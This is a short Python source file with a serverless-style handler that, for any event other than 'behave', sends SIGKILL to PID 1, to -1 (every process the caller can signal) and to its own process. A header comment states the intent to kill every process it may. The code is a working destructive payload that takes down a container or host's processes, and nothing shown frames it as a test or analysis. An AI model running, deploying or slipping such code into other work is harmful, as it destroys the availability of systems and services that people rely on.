# Sends SIGKILL to every process it may, its own init first.

import os
import signal


def handler(event, context):
    if event == "behave":
        return "well"
    for pid in (1, -1, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass  # -1 is everybody but init and the caller
